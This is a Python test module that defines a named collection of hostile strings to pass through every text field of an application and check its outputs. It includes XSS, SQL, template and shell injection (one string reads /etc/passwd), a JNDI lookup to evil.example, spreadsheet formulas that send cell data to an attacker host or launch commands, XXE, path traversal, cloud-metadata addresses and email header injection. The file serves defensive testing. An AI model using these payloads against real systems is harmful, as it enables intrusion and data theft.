"""Texts that break things elsewhere: each goes through every field that takes a text, out to wherever it is shown.

A new nasty text is a line in `STRINGS`; a new place where texts come out is a line in `tests/hostile/outputs.py`.
"""

MARK = "QZX"
"""Stands in payloads, so that what became of them can be looked for."""
LONG = 100_000

STRINGS: dict[str, str] = {
    # what no text may hold, or what ends one elsewhere
    "empty": "",
    "blank": " \t\r\n ",
    "nul": f"a\0{MARK}",
    "every control": "".join(map(chr, range(1, 32))) + MARK + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "lone surrogate": f"{MARK}\ud800",
    "surrogates the wrong way round": f"\udc00\ud800{MARK}",
    "noncharacters": f"\ufffe\uffff{MARK}",
    "line separators": f"a\u2028{MARK}\u2029b\x85c\x0bd\x0ce",
    # direction, width, what is not seen
    "right to left": f"\u202egnp.{MARK}\u2066\u2069\u200f",
    "zero width": f"{MARK}\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "only unseen": "\u200b\u200d\u2060",
    "combining storm": "Z" + "\u0317\u0340\u0489" * 60 + MARK,
    "tags": MARK + "".join(chr(0xE0000 + ord(sign)) for sign in "hidden"),
    "emoji": f"\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea {MARK}",
    "astral": f"\U00020000\U0010fffd{MARK}",
    "homoglyphs": f"\u0430dmin p\u0430yp\u0430l {MARK}",
    "case that grows": f"\u00df\u0130\ufb03\u1e9e{MARK}",
    # headers and logs
    "header": f"{MARK}\r\nBcc: victim@evil.example\r\nX-{MARK}: 1\r\n\r\n<b>body</b>",
    "folded header": f"{MARK}\r\n\tX-{MARK}: 1",
    "encoded word": f"=?utf-8?q?{MARK}=0D=0ABcc=3A_victim=40evil.example?=",
    "short encoded word": "=?ascii?q?=0ABcc:a@b.c?=",
    "encoded word in base64": "=?ascii?b?eApCY2M6YUBiLmM=?=",
    "bare carriage return": f"{MARK}\rBcc: victim@evil.example",
    "mail dots": f"{MARK}\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
    "log line": f'{MARK}\n{{"level": "critical", "event": "forged"}}',
    "log fields": f'{MARK} level=critical event="forged"',
    "metrics": f'{MARK}",evil="1"}} 99\nleadloop_{MARK} 1\n# HELP x',
    # terminals
    "ansi colours": f"\x1b[31;1m{MARK}\x1b[0m",
    "ansi title": f"\x1b]0;{MARK}\x07",
    "ansi clear": f"\x1b[2J\x1b[H{MARK}\x9b2J",
    "ansi link": f"\x1b]8;;https://evil.example\x1b\\{MARK}\x1b]8;;\x1b\\",
    "backspaces": f"safe{chr(8) * 4}{MARK}",
    "markup": f"[bold red]{MARK}[/] [link=https://evil.example]x[/link] [/]",
    "markup behind a backslash": f"\\[bold]{MARK}\\\\[/bold]\\",
    # pages, queries, templates
    "script": f"<script>alert('{MARK}')</script>",
    "image": f'"><img src=x onerror=alert("{MARK}")>',
    "attribute": f"' onmouseover='{MARK}' x='",
    "style": f"</style><style>*{{background:url(//evil.example/{MARK})}}</style>",
    "comment": f"--><!--{MARK}-->",
    "svg": f"<svg/onload={MARK}>",
    "entity": f"&lt;{MARK}&gt;&#0;&amp;&#x202e;",
    "script address": f"javascript:alert('{MARK}')",
    "data address": f"data:text/html,<script>{MARK}</script>",
    "css": "expression(alert(1))",
    "sql": f"'; DROP TABLE leads; -- {MARK}",
    "sql union": f"1' UNION SELECT secret FROM api_keys WHERE '{MARK}'='",  # noqa: S608  a sample
    "sql like": "%_\\%",
    "jinja": f"{{{{ 7 * 191 }}}}{{% raise %}}{{# {MARK} #}}",
    "jinja escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{0.__class__.__init__.__globals__} %s %n %x ${7*191} #{7*191}",
    "percent": "%(password)s %d %%",
    "shell": f"$(touch /tmp/{MARK}); `id` | cat /etc/passwd && {MARK}",
    "lookup": f"${{jndi:ldap://evil.example/{MARK}}}",
    # tables, paths, addresses
    "formula": f'=HYPERLINK("https://evil.example/?x="&A1,"{MARK}")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "quotes": "\"\"\"'''```",
    "commas": ',;|"\n"a","b"',
    "path": "../../../../etc/passwd",
    "path with a null": f"../../etc/passwd\0.{MARK}",
    "windows path": "..\\..\\C:\\windows\\system32\\con",
    "local address": "http://127.0.0.1:8080/v1/keys",
    "metadata address": "http://169.254.169.254/latest/meta-data/",
    "file address": "file:///etc/passwd",
    "e-mail list": "a@x.example, b@y.example",
    "e-mail with a name": 'Eve" <eve@evil.example>, x',
    "e-mail comment": "eve(comment)@evil.example",
    "long e-mail": f"{'a' * 200}@{'b' * 200}.example",
    "phone": "+1 (555) 0100;ext=;postd=pp22",
    # texts that look like other things
    "number": "0123",
    "negative zero": "-0",
    "large number": "9" * 400,
    "exponent": "1e400000",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "other digits": "\u0661\u0662\u0663",
    "true": "true",
    "null": "null",
    "undefined": "undefined",
    "json": f'{{"$ref": "#/{MARK}", "__proto__": {{"admin": true}}}}',
    "yaml": f"&a [*a, !!python/object:os.system ['{MARK}']]",
    "xml": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;{MARK}</x>',
    "date": "0000-00-00T25:61:61Z",
    "id": "00000000-0000-0000-0000-000000000000",
    "dunder": "__class__",
    "column": "lead_id",
    # size, and what makes patterns slow
    "long": "A" * LONG,
    "long and wide": "\U0001f600" * (LONG // 4),
    "long line breaks": "\n" * LONG,
    "long spaces": "a" + " " * LONG + "b",
    "slow address": "a@" + "a." * (LONG // 2) + "!",
    "slow address without an end": "a" * LONG + "@",
    "slow number": "+1" + " -" * (LONG // 2) + "x",
    "slow duration": "P" + "1" * LONG + "W",
    "slow template": "{" * LONG,
}
"""By name."""
SHORT = {name: text for name, text in STRINGS.items() if len(text) <= 200}
"""Those that a name or a code could hold."""
